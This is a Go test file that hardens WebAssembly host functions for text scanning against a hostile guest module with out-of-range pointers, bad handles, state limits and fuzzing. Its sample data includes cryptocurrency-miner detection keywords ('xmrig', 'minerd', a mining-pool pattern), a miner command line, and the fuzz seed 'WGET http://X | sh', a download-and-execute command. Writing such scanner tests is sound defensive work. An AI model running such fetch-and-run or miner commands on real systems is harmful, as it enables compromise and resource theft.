package hostfn

import (
	"context"
	_ "embed"
	"encoding/binary"
	"testing"

	"github.com/tetratelabs/wazero"
	"github.com/tetratelabs/wazero/api"
)

//go:embed testdata/guest.wasm
var guestWasm []byte

// guest is the hand-written hostile module (testdata/guest.wat) with its state bound.
type guest struct {
	h   *Host
	mod api.Module
	r   wazero.Runtime
}

func newGuest(tb testing.TB) *guest {
	g := openGuest(tb)
	tb.Cleanup(func() { g.r.Close(context.Background()) })
	return g
}

// openGuest is newGuest whose runtime the caller closes.
func openGuest(tb testing.TB) *guest {
	tb.Helper()
	ctx := context.Background()
	r := wazero.NewRuntimeWithConfig(ctx, wazero.NewRuntimeConfig().WithCloseOnContextDone(true))
	h, err := Instantiate(ctx, r)
	if err != nil {
		tb.Fatal(err)
	}
	ictx, bind := h.Instance(ctx)
	mod, err := r.InstantiateWithConfig(ictx, guestWasm, wazero.NewModuleConfig().WithName(""))
	if err != nil {
		tb.Fatal(err)
	}
	bind(mod)
	return &guest{h: h, mod: mod, r: r}
}

func (g *guest) call(tb testing.TB, fn string, args ...uint64) int64 {
	tb.Helper()
	res, err := g.mod.ExportedFunction(fn).Call(context.Background(), args...)
	if err != nil {
		tb.Fatalf("%s%v trapped: %v", fn, args, err)
	}
	if fn == "re_find" {
		return int64(res[0])
	}
	return int64(int32(uint32(res[0])))
}

func (g *guest) write(tb testing.TB, at uint32, b []byte) {
	if !g.mod.Memory().Write(at, b) {
		tb.Fatalf("write at %d", at)
	}
}

func list(words ...string) []byte {
	var b []byte
	for _, w := range words {
		b = binary.LittleEndian.AppendUint32(b, uint32(len(w)))
		b = append(b, w...)
	}
	return b
}

// TestHostileGuest hands every function pointers and lengths outside the guest's one page
// (65536 bytes), wrapping lengths and unknown handles: each answers a negative result, none
// traps or reads outside the memory.
func TestHostileGuest(t *testing.T) {
	g := newGuest(t)
	const page = 65536
	g.write(t, 0, list("xmrig", "minerd"))
	set := g.call(t, "lits_new", 0, uint64(len(list("xmrig", "minerd"))), 0)
	if set != 0 {
		t.Fatalf("lits_new = %d", set)
	}
	g.write(t, 1000, []byte(`pool\.[a-z]+`))
	re := g.call(t, "re_new", 1000, 12)
	if re != 0 {
		t.Fatalf("re_new = %d", re)
	}
	for _, tc := range []struct {
		fn   string
		args []uint64
		want int64
	}{
		{"lower", []uint64{page - 2, 4, 0}, ResRange},
		{"lower", []uint64{0, 4, page - 2}, ResRange},
		{"lower", []uint64{0xffffffff, 2, 0}, ResRange},
		{"lower", []uint64{0, 0xffffffff, 0}, ResRange},
		{"lower", []uint64{0, MaxText + 1, 0}, ResRange},
		{"lower", []uint64{1<<40 | 0, 1<<40 | 4, 1 << 40}, ResNone}, // only an i32's low bits count
		{"span", []uint64{0, 10, page - 31}, ResRange},
		{"span", []uint64{page, 1, 0}, ResRange},
		{"index", []uint64{0, 10, page - 1, 2, 0}, ResRange},
		{"index", []uint64{0xfffffff0, 0x20, 0, 1, 1}, ResRange},
		{"lits_new", []uint64{page - 4, 8, 0}, ResRange},
		{"lits_new", []uint64{0, 3, 0}, ResPattern},
		{"lits_scan", []uint64{0, 0, page + 1, 0, 1}, ResRange},
		{"lits_scan", []uint64{0, 0, 10, page - 12, 2}, ResRange},
		{"lits_scan", []uint64{7, 0, 10, 0, 1}, ResHandle},
		{"lits_scan", []uint64{0xffffffff, 0, 10, 0, 1}, ResHandle},
		{"re_new", []uint64{page - 1, 2}, ResRange},
		{"re_new", []uint64{1000, 1}, ResPattern}, // "p" is fine, "(" is not: see below
		{"re_find", []uint64{0, page - 1, 2}, ResRange},
		{"re_find", []uint64{9, 0, 1}, ResHandle},
	} {
		if tc.fn == "re_new" && tc.want == ResPattern {
			g.write(t, 2000, []byte("("))
			tc.args = []uint64{2000, 1}
		}
		if got := g.call(t, tc.fn, tc.args...); got != tc.want {
			t.Errorf("%s%v = %d, want %d", tc.fn, tc.args, got, tc.want)
		}
	}
	// The same functions in range work through the guest.
	g.write(t, 3000, []byte("./XMRig -o pool.example; minerd"))
	if got := g.call(t, "lower", 3000, 31, 4000); got != 31 {
		t.Errorf("lower = %d", got)
	}
	low, _ := g.mod.Memory().Read(4000, 31)
	if string(low) != "./xmrig -o pool.example; minerd" {
		t.Errorf("lowered %q", low)
	}
	if got := g.call(t, "lits_scan", 0, 4000, 31, 5000, 1); got != ResLimit {
		t.Errorf("lits_scan with room for one of two = %d, want ResLimit", got)
	}
	if got := g.call(t, "lits_scan", 0, 4000, 31, 5000, 8); got != 2 {
		t.Errorf("lits_scan = %d, want 2", got)
	}
	m, _ := g.mod.Memory().Read(5000, 24)
	if binary.LittleEndian.Uint32(m[12:]) != 1 || binary.LittleEndian.Uint32(m[16:]) != 25 {
		t.Errorf("second match %v", m)
	}
	if got := g.call(t, "re_find", 0, 4000, 31); got != 11<<32|23 {
		t.Errorf("re_find = %#x", got)
	}
}

// TestStateLimits fills an instance's literal sets and regular expressions to their bounds:
// the next one is refused, nothing grows further.
func TestStateLimits(t *testing.T) {
	g := newGuest(t)
	g.write(t, 0, list("a"))
	for i := 0; i < MaxSets; i++ {
		if got := g.call(t, "lits_new", 0, 5, 0); got != int64(i) {
			t.Fatalf("set %d: %d", i, got)
		}
	}
	if got := g.call(t, "lits_new", 0, 5, 0); got != ResLimit {
		t.Errorf("set past MaxSets: %d", got)
	}
	g.write(t, 100, []byte("a+"))
	for i := 0; i < MaxRegexps; i++ {
		g.call(t, "re_new", 100, 2)
	}
	if got := g.call(t, "re_new", 100, 2); got != ResLimit {
		t.Errorf("regexp past MaxRegexps: %d", got)
	}
	g2 := newGuest(t) // a set larger than MaxCells allows
	words := make([]string, 0, 600)
	for i := 0; i < 600; i++ {
		words = append(words, string(rune('a'+i%26))+string(rune('A'+i/26%26))+"0123456789abcdefghijklmnopqrstuvwxyz!#$%&()*+,-./:;<=>?@[]^_{|}~"[:60])
	}
	l := list(words...)
	g2.write(t, 0, l)
	if got := g2.call(t, "lits_new", 0, uint64(len(l)), 0); got != ResLimit {
		t.Errorf("a set of %d transitions: %d, want ResLimit", 600*62*90, got)
	}
}

// TestStateForgotten checks an instance's state goes when the instance closes, so replaced
// instances leave nothing behind.
func TestStateForgotten(t *testing.T) {
	g := newGuest(t)
	if n := g.h.Instances(); n != 1 {
		t.Fatalf("%d instances with state, want 1", n)
	}
	if err := g.mod.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	if n := g.h.Instances(); n != 0 {
		t.Errorf("%d instances with state after close, want 0", n)
	}
}

// FuzzHostCalls calls every function through the hostile guest with arbitrary pointers,
// lengths and memory contents: no call traps, every result is a value or a negative result,
// and results for in-range arguments equal the pure functions'.
func FuzzHostCalls(f *testing.F) {
	f.Add([]byte("WGET http://X | sh"), uint32(0), uint32(18), uint32(100), uint32(4), uint8(0))
	f.Add([]byte{4, 0, 0, 0, 'a', 'b', 'c', 'd'}, uint32(65530), uint32(10), uint32(0), uint32(70000), uint8(3))
	g := newGuest(f)
	f.Fuzz(func(t *testing.T, mem []byte, p, n, q, m uint32, which uint8) {
		if len(mem) > 4096 {
			mem = mem[:4096]
		}
		g.write(t, 0, mem)
		args := map[uint8][]uint64{
			0: {uint64(p), uint64(n), uint64(q)},
			1: {uint64(p), uint64(n), uint64(q)},
			2: {uint64(p), uint64(n), uint64(q), uint64(m), uint64(which & 1)},
			3: {uint64(p), uint64(n), uint64(which & 1)},
			4: {uint64(m % 4), uint64(p), uint64(n), uint64(q), uint64(m)},
			5: {uint64(p), uint64(n)},
			6: {uint64(m % 4), uint64(p), uint64(n)},
		}
		names := []string{"lower", "span", "index", "lits_new", "lits_scan", "re_new", "re_find"}
		k := which % 7
		in := func(ptr, size uint32) ([]byte, bool) {
			b, ok := g.mod.Memory().Read(ptr, size)
			return b, ok && size <= MaxText
		}
		wantLower := int64(ResRange)
		if src, ok := in(p, n); ok {
			if _, ok := in(q, n); ok {
				wantLower = int64(ResNone)
				if Lower(make([]byte, len(src)), src) {
					wantLower = int64(n)
				}
			}
		}
		got := g.call(t, names[k], args[k]...)
		if got < ResPattern && names[k] != "re_find" {
			t.Fatalf("%s%v = %d: not a result", names[k], args[k], got)
		}
		switch names[k] {
		case "span":
			text, ok := in(p, n)
			set, ok2 := in(q, 32)
			if ok && ok2 && got != int64(Span(text, (*ByteSet)(set))) {
				t.Fatalf("span = %d", got)
			}
		case "index":
			hay, ok := in(p, n)
			needle, ok2 := in(q, m)
			if ok && ok2 && got != int64(Index(hay, needle, which&1 != 0)) {
				t.Fatalf("index = %d", got)
			}
		case "lower":
			if got != wantLower {
				t.Fatalf("lower%v = %d, want %d", args[k], got, wantLower)
			}
		}
	})
}
